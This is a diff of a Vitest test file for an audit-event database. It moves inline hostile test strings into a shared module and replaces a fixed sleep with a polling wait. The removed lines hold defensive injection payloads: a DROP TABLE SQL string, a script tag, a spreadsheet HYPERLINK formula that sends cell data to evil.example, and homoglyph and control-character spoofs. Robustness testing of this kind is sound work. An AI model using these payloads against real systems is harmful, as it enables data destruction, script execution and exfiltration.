@@ -1,5 +1,6 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { createTestDatabase, type TestDatabase } from '@/db/testing';
+import { HOSTILE_STRINGS } from '@/db/testing/hostile';
 import { verifyDatabase } from '@/lib/audit/verify';
 import { validateEvent, type ValidEvent } from '@/lib/events/schema';
 import {
@@ -21,20 +22,8 @@ const SETUP = {
   context: { ip: null, userAgent: null, requestId: null },
   sessionId: null,
 };
-const HOSTILE = [
-  "'; DROP TABLE audit_events;--",
-  '<script>window.__pwned=1</script>',
-  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
-  'аdmin',
-  'ad\u200Bmin',
-  '\u202Eevil',
-  'e\u0301',
-  'line1\r\nline2\ttab\\backslash',
-  'a\u2028b',
-  '\x1b[31mred',
-  '👩‍💻',
-  '  padded  ',
-];
+// Each is used as ids, names and text; an id cannot be empty.
+const HOSTILE = HOSTILE_STRINGS.filter((s) => s !== '');
 
 function valid(raw: unknown): ValidEvent {
   const result = validateEvent(raw, 0);
@@ -247,8 +236,10 @@ describe('batches prepared in worker threads', () => {
         prepared: { ok: true },
       });
       // A second later another worker is up and answers.
-      await new Promise((r) => setTimeout(r, 1200));
-      expect(workers.workers()).toHaveLength(1);
+      await vi.waitFor(() => expect(workers.workers()).toHaveLength(1), {
+        timeout: 5000,
+        interval: 50,
+      });
       expect(await prepareRequest(source, 'application/json', body)).toMatchObject({
         ok: true,
         events: 1,
